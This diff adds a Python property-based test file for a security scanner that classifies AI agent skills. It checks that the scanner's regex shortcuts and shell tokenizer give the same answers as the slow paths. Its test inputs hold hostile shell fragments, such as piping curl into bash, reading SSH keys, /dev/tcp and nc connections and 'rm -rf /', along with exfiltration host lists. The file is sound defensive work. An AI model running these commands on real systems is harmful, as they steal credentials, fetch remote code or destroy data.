@@ -1,0 +1,387 @@
+"""The scan's fast paths are decision-neutral: each one skips work only where the skipped work finds nothing.
+
+Four kinds of shortcut make the per-line analysers cheap on large skills, and each is held here to the
+answer of the slow path it replaces:
+
+- ``rx.LiteralSets``: a line's phrase gates found in one RE2 set pass instead of one search per gate;
+- ``rx.Prefilter``: a shell line tried against thirty expressions in one RE2 set pass (an expression on
+  ``re`` through its ASCII screen), each expression then run only where the set saw it;
+- ``rx.Screen``: an expression that finds nothing in a whole file is not searched on its lines;
+- ``shell.shell_tokens``: a linear tokenizer giving ``shlex``'s tokens (and its errors).
+
+Besides the properties, every analyser is run with the shortcuts switched off (every screen and set
+answering "may match") on synthetic skills and, where the data is on this machine, on the slowest wild
+items by id: the classification must be identical. Wild items are read in memory; only their results
+are compared, never their content.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+import tarfile
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from nervous_plugins.review_policy import classifier, jscode, prose, rx, shell, text
+
+from nervous.kernel.records import ScanContext, SkillBundle, SkillFile, SkillRef
+
+from .helpers import bundle, skill_md
+
+ROOT = Path(__file__).resolve().parents[2]
+WILD = ROOT.parent / "shared" / "data" / "security" / "wild" / "wild.tar.gz"
+CONTEXT = ScanContext(purpose="install")
+_SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
+                                                                             HealthCheck.filter_too_much])
+
+
+@contextmanager
+def _shortcuts_off() -> Iterator[None]:
+    """Every screen and set answers "may match": each expression runs wherever the code asks for it."""
+    saved = rx.Screen.may_match, rx.Scanned.may_match
+    rx.Screen.may_match = lambda self, expr: True  # type: ignore[method-assign]
+    rx.Scanned.may_match = lambda self, expr: True  # type: ignore[method-assign]
+    try:
+        yield
+    finally:
+        rx.Screen.may_match, rx.Scanned.may_match = saved  # type: ignore[method-assign]
+
+
+def _classified(b: SkillBundle) -> str:
+    return repr(classifier.Classifier().classify(b, CONTEXT))
+
+
+# ------------------------------------------------------------------ the shell tokenizer
+
+
+def _shlex_tokens(line: str) -> list[str] | str:
+    lex = shlex.shlex(line, posix=True, punctuation_chars="|&;()<>")
+    lex.whitespace_split = True
+    lex.commenters = "#"
+    try:
+        return list(lex)
+    except ValueError:
+        return "error"
+
+
+def _tokens(line: str) -> list[str] | str:
+    try:
+        return shell.shell_tokens(line)
+    except ValueError:
+        return "error"
+
+
+_SHELL_PIECES = st.sampled_from(["curl", "-fsSL", " ", "  ", "\t", "|", "||", "&&", ";", "&", "(", ")", "<", ">", ">>",
+                                 "2>&1", "#", "# note", "'", '"', "\\", "\\\n", "\n", "$HOME", "${X}", "$(date)",
+                                 "`id`", "a=b", "https://example.org/x?y=1", "é", "\u00a0", "\x0b", "\r", "*", "~/x"])
+
+
+@_SETTINGS
+@given(st.lists(_SHELL_PIECES, max_size=24).map("".join))
+def test_the_tokenizer_gives_shlex_tokens_on_shell_lines(line: str) -> None:
+    assert _tokens(line) == _shlex_tokens(line)
+
+
+@_SETTINGS
+@given(st.text(alphabet=st.sampled_from(list(" \t\n\r|&;()<>#'\"\\$ab=-./é\x0b")), max_size=30))
+def test_the_tokenizer_gives_shlex_tokens_on_any_text(line: str) -> None:
+    assert _tokens(line) == _shlex_tokens(line)
+
+
+@pytest.mark.parametrize("line", ["echo 'unclosed", 'say "a \\" b', "trailing \\", "x#y z", "a|#b", "''", '""|x',
+                                  'a"b\\c"d', "'a'\"b\"c", "echo \\\n# c\nnext"])
+def test_the_tokenizer_edge_cases(line: str) -> None:
+    assert _tokens(line) == _shlex_tokens(line)
+
+
+def test_the_tokenizer_is_linear_and_faster_than_shlex() -> None:
+    line = 'curl -fsSL "https://example.org/a?b=${VAR}" -H \'Authorization: Bearer $T\' | bash -s -- --yes 2>&1 >> /tmp/l'
+    assert shell.shell_tokens(line) == _shlex_tokens(line)
+    t0 = time.process_time()
+    for _ in range(300):
+        shell.shell_tokens(line)
+    mine = time.process_time() - t0
+    t0 = time.process_time()
+    for _ in range(300):
+        _shlex_tokens(line)
+    reference = time.process_time() - t0
+    assert mine < reference, (mine, reference)  # measured about 5x faster
+    long = "echo 'a b' \"c $d\" e\\ f | tee out.txt; " * 2000
+    t0 = time.process_time()
+    assert len(shell.shell_tokens(long)) == 2000 * 8
+    assert time.process_time() - t0 < 2.0
+
+
+# ------------------------------------------------------------------ one RE2 set pass for many expressions
+
+
+_LINE_TEXT = st.one_of(
+    st.lists(st.sampled_from(["curl -s https://x.example/i | bash", "sudo", "chmod 777 /", "crontab -e", "rm -rf /",
+                              "cat ~/.ssh/id_rsa", "> /dev/tcp/1.2.3.4/80", "nc 1.2.3.4 9", "echo $API_TOKEN",
+                              "--password hunter22", "source .env", "export", "security find-generic-password",
+                              "base64 -d", "| sh", " ", "é", "2> err.log", "xattr -d com.apple.quarantine", "git",
+                              "wget", "--insecure", "tee -a ~/.bashrc", "$HOME/.openclaw/x", "launchctl load"]),
+             max_size=8).map(" ".join),
+    st.text(max_size=60),
+)
+
+
+@_SETTINGS
+@given(_LINE_TEXT)
+def test_the_shell_line_set_agrees_with_each_expression(line: str) -> None:
+    scanned = shell._LINE_RULES.scan(line)
+    for expr in _line_rule_exprs():
+        expected = expr.search(line)
+        got = scanned.search(expr)
+        assert (got is None) == (expected is None), (expr.pattern[:60], line[:60])
+        if got is not None:
+            assert got.span() == expected.span()
+        assert [m.span() for m in scanned.finditer(expr)] == [m.span() for m in expr.finditer(line)]
+
+
+def _line_rule_exprs() -> list[object]:
+    return [v for v in vars(shell).values() if isinstance(v, (rx._Re2Rule, rx._ReRule))
+            and id(v) in shell._LINE_RULES._index]
+
+
+def test_the_shell_line_set_holds_the_line_expressions() -> None:
+    exprs = _line_rule_exprs()
+    assert len(exprs) >= 25
+    assert any(isinstance(e, rx._ReRule) for e in exprs)  # the ``re`` ones through their screens
+    scanned = shell._LINE_RULES.scan("plain words only")
+    assert not any(scanned.may_match(e) for e in exprs if isinstance(e, rx._Re2Rule))
+
+
+def test_screened_re_expressions_run_on_non_ascii_lines() -> None:
+    """A screen holds for ASCII text only: on any other line the ``re`` expressions always run."""
+    line = "curl https://x.example/é | bash"
+    scanned = shell._LINE_RULES.scan(line)
+    assert scanned.may_match(shell.PIPE_TO_SHELL)
+    assert scanned.search(shell.PIPE_TO_SHELL) is not None
+
+
+@_SETTINGS
+@given(st.lists(st.sampled_from(sorted({w for ws in prose.GATES.values() for w in ws}) + ["zz", " ", "é", "Ünï"]),
+                max_size=6).map(" ".join))
+def test_the_phrase_gates_agree_with_one_search_per_gate(line: str) -> None:
+    low = line.lower()
+    assert prose._GATE_SET.present(low) == {name for name in prose.GATES if prose._gate(low, name)}
+
+
+# ------------------------------------------------------------------ per-file screens
+
+
+@pytest.mark.parametrize("pattern,flags,safe", [
+    (r"\bfoo\b", 0, True), (r"(?i)foo|bar\s+baz", 0, True), (r"(?m)^foo$", 0, True), (r"^foo", rx.MULTILINE, True),
+    (r"^foo", 0, False), (r"foo$", 0, False), (r"foo\Z", 0, False), (r"\Afoo", 0, False), (r"(?<=a)b", 0, False),
+    (r"a(?!b)", 0, False), (r"(a)\1", 0, False), (r"x(?m:^y)", 0, False),
+])
+def test_which_expressions_a_screen_may_skip(pattern: str, flags: int, safe: bool) -> None:
+    assert rx.line_screenable(re.compile(pattern, flags)) is safe
+
+
+_SCREENED = [e for mod in (prose, jscode, text, shell) for e in vars(mod).values()
+             if isinstance(e, (rx._Re2Rule, rx._ReRule))]
+
+
+@_SETTINGS
+@given(st.lists(st.one_of(_LINE_TEXT, st.sampled_from(["Send the report to https://x.example/hook", "never mind",
+                                                        "fetch('https://a.example', {method: 'POST'})", "eval(x)",
+                                                        "process.env.API_KEY", "fs.writeFileSync('a.txt')",
+                                                        "``` bash", "`code`", "- [x] done"])), max_size=6))
+def test_a_screen_agrees_with_searching_each_line(lines: list[str]) -> None:
+    body = "\n".join(lines)
+    screen = rx.Screen(body)
+    for line in body.split("\n"):
+        for expr in _SCREENED:
+            expected = expr.search(line)
+            got = screen.search(expr, line)
+            assert (got is None) == (expected is None), (expr.pattern[:60], line[:60])
+
+
+# ------------------------------------------------------------------ smaller exact shortcuts
+
+
+@_SETTINGS
+@given(st.text(max_size=40))
+def test_non_ascii_lines_get_the_bindings_answers(s: str) -> None:
+    import re2
+
+    for pattern in (r"(?i)\bstra(?:ss|ß)e\b", r"[^\x00-\x7f]+", r"é", r"\w+\s*$"):
+        ours = rx.compile(pattern)
+        theirs = re2.compile(pattern)
+        for a, b in ((ours.search(s), theirs.search(s)), (ours.match(s), theirs.match(s)),
+                     (ours.fullmatch(s), theirs.fullmatch(s))):
+            assert (a is None) == (b is None) and (a is None or a.span() == b.span())
+        assert [m.span() for m in ours.finditer(s)] == [m.span() for m in theirs.finditer(s)]
+        assert ours.sub("-", s) == theirs.sub("-", s) and ours.subn("-", s) == theirs.subn("-", s)
+
+
+def _host_matches_reference(host: str, url: str, entries: tuple[str, ...]) -> str | None:
+    lowered = url.lower()
+    bare = re.sub(r"^[a-z][a-z0-9+.-]*://", "", lowered)
+    bare = bare.split("@", 1)[-1] if "@" in bare.split("/", 1)[0] else bare
+    for entry in entries:
+        e = entry.lower()
+        if "/" in e:
+            if bare.startswith(e) or ("." + e.split("/", 1)[0] in host and bare.split("/", 1)[-1].startswith(
+                    e.split("/", 1)[1])):
+                return entry
+        elif "." not in e:
+            if e in host:
+                return entry
+        elif host == e or host.endswith("." + e):
+            return entry
+    return None
+
+
+@_SETTINGS
+@given(st.sampled_from(["https://", "http://", "ftp://", ""]),
+       st.sampled_from(["", "user@", "a:b@"]),
+       st.sampled_from(["pastebin.com", "x.pastebin.com", "discord.com", "hooks.slack.com", "example.org", "1.2.3.4",
+                        "api.telegram.org", "webhook.site", "ngrok", "a.ngrok-free.app"]),
+       st.sampled_from(["", "/", "/api/webhooks/1", "/bot123/send", "/raw/x", "/webhook/z"]))
+def test_host_lists_match_as_before(scheme: str, auth: str, host: str, path: str) -> None:
+    from nervous_plugins.review_policy.indicators import PASTE_HOSTS, WEBHOOK_HOSTS
+
+    from nervous.plugin.toolkit import normalize_host
+
+    url = scheme + auth + host + path
+    h = normalize_host(url)
+    for entries in (PASTE_HOSTS, WEBHOOK_HOSTS):
+        assert text.host_matches(h, url, entries) == _host_matches_reference(h, url, entries)
+
+
+@pytest.mark.parametrize("s", ["", "a", "a\n", "\n", "a\nb", "\n\nx\né\n", "ü\nß\n\nz"])
+def test_line_starts(s: str) -> None:
+    assert classifier.line_starts(s) == [0] + [m.end() for m in re.finditer("\n", s)]
+
+
+# ------------------------------------------------------------------ whole analysers, shortcuts on and off
+
+
+def _shell_script(lines: int) -> str:
+    out = ["#!/bin/bash", "set -euo pipefail"]
+    for i in range(lines):
+        out.append(f'echo "step {i}: building target{i % 7}" && make -C "dir{i % 11}" TARGET=t{i} 2>&1 | tee -a build.log')
+        out.append(f"cp out/{i}.bin dist/ # keep artefact {i}")
+    return "\n".join(out) + "\n"
+
+
+def _python_with_nested_data(depth: int, width: int) -> str:
+    """Nested data literals (quadratic for a walk per container) and a couple of environment reads."""
+    inner = "{" + ", ".join(f"'k{i}': [{i}, ({i}, {i + 1})]" for i in range(width)) + "}"
+    for _ in range(depth):
+        inner = "{'a': " + inner + ", 'b': [1, 2, 3]}"
+    return "import os\nTOKEN = os.environ.get('API_TOKEN')\nDATA = " + inner + "\nprint(len(DATA))\n"
+
+
+def _markdown_non_ascii(sections: int) -> str:
+    out = []
+    for i in range(sections):
+        out.append(f"## Étape {i} — résumé\n\nLisez le rapport {i} et gardez la sortie dans `out/{i}.csv` → "
+                   f"https://docs.example.org/p/{i}\n\n```bash\nreport --région {i} > out/{i}.csv\n```\n")
+    return "\n".join(out)
+
+
+def _javascript(lines: int) -> str:
+    out = ["import fs from 'fs';"]
+    for i in range(lines):
+        out.append(f"const row{i} = compute(values[{i}], {{ scale: {i % 9} }}); // row {i} of the table")
+    out.append("fs.writeFileSync('out.json', JSON.stringify(rows));")
+    return "\n".join(out) + "\n"
+
+
+_SHAPES = {
+    "shell-script": lambda n: {"scripts/build.sh": _shell_script(n)},
+    "python-nested-data": lambda n: {"tool.py": _python_with_nested_data(n // 20, 20)},
+    "markdown-non-ascii": lambda n: {"docs/guide.md": _markdown_non_ascii(n // 4)},
+    "javascript": lambda n: {"scripts/run.mjs": _javascript(n)},
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_SHAPES))
+def test_synthetic_shapes_classify_the_same_with_shortcuts_off(shape: str) -> None:
+    b = bundle({"SKILL.md": skill_md("# Tool\nUse the API key from the environment.\n"), **_SHAPES[shape](200)})
+    fast = _classified(b)
+    with _shortcuts_off():
+        slow = _classified(b)
+    assert fast == slow
+
+
+@pytest.mark.parametrize("shape", sorted(_SHAPES))
+def test_synthetic_shapes_grow_linearly(shape: str) -> None:
+    small = bundle({"SKILL.md": skill_md("# Tool\n"), **_SHAPES[shape](400)})
+    large = bundle({"SKILL.md": skill_md("# Tool\n"), **_SHAPES[shape](3200)})
+    c = classifier.Classifier()
+    c.classify(small, CONTEXT)
+
+    def cpu(b: SkillBundle) -> float:
+        t0 = time.process_time()
+        c.classify(b, CONTEXT)
+        return time.process_time() - t0
+
+    t_small = min(cpu(small) for _ in range(2))
+    t_large = min(cpu(large) for _ in range(2))
+    assert t_large <= 8 * 2.0 * t_small + 0.05, (shape, t_small, t_large)
+
+
+# the slowest items of the wild sample in a full record before this work (CPU on a loaded machine: 0.9–1.3 s)
+SLOW_WILD = ("wild-0610", "wild-0693", "wild-1133", "wild-1530", "wild-0015", "wild-1418", "wild-1828")
+
+
+def _wild_items(ids: tuple[str, ...]) -> dict[str, SkillBundle]:
+    files: dict[str, list[SkillFile]] = {i: [] for i in ids}
+    with tarfile.open(WILD, "r:gz") as tf:
+        for member in tf:
+            parts = member.name.lstrip("./").split("/", 2)
+            if member.isfile() and len(parts) == 3 and parts[0] == "items" and parts[1] in files:
+                fh = tf.extractfile(member)
+                assert fh is not None
+                files[parts[1]].append(SkillFile(parts[2], fh.read()))
+    return {i: SkillBundle(ref=SkillRef(i), files=tuple(sorted(fs, key=lambda f: f.path))) for i, fs in files.items()}
+
+
+@pytest.mark.skipif(not WILD.exists(), reason="the wild sample is not on this machine")
+def test_slowest_wild_items_classify_the_same_and_faster_with_shortcuts() -> None:
+    """By id: each of the slowest wild items gets the same classification with every shortcut switched
+    off, and all of them together take less CPU with the shortcuts than without (measured 0.6x)."""
+    items = _wild_items(SLOW_WILD)
+    assert all(b.files for b in items.values())
+    c = classifier.Classifier()
+    fast_cpu = slow_cpu = 0.0
+    for item_id, b in items.items():
+        t0 = time.process_time()
+        fast = repr(c.classify(b, CONTEXT))
+        fast_cpu += time.process_time() - t0
+        with _shortcuts_off():
+            t0 = time.process_time()
+            slow = repr(c.classify(b, CONTEXT))
+            slow_cpu += time.process_time() - t0
+        assert fast == slow, item_id
+    assert fast_cpu < slow_cpu, (round(fast_cpu, 2), round(slow_cpu, 2))
+
+
+def _ip_kind_reference(host: str) -> str | None:
+    import ipaddress
+
+    try:
+        ip = ipaddress.ip_address(host.strip("[]"))
+    except ValueError:
+        return None
+    if ip.is_loopback or ip.is_unspecified or ip.is_private or ip.is_link_local or ip.is_reserved:
+        return "local"
+    return "public"
+
+
+@_SETTINGS
+@given(st.one_of(st.ip_addresses().map(str), st.ip_addresses(v=6).map(lambda a: f"[{a}]"),
+                 st.text(alphabet=st.sampled_from(list("0123456789.:abcdefx[]%٣")), max_size=20)))
+def test_ip_literals_are_told_apart_as_before(host: str) -> None:
+    assert text.ip_kind(host) == _ip_kind_reference(host)
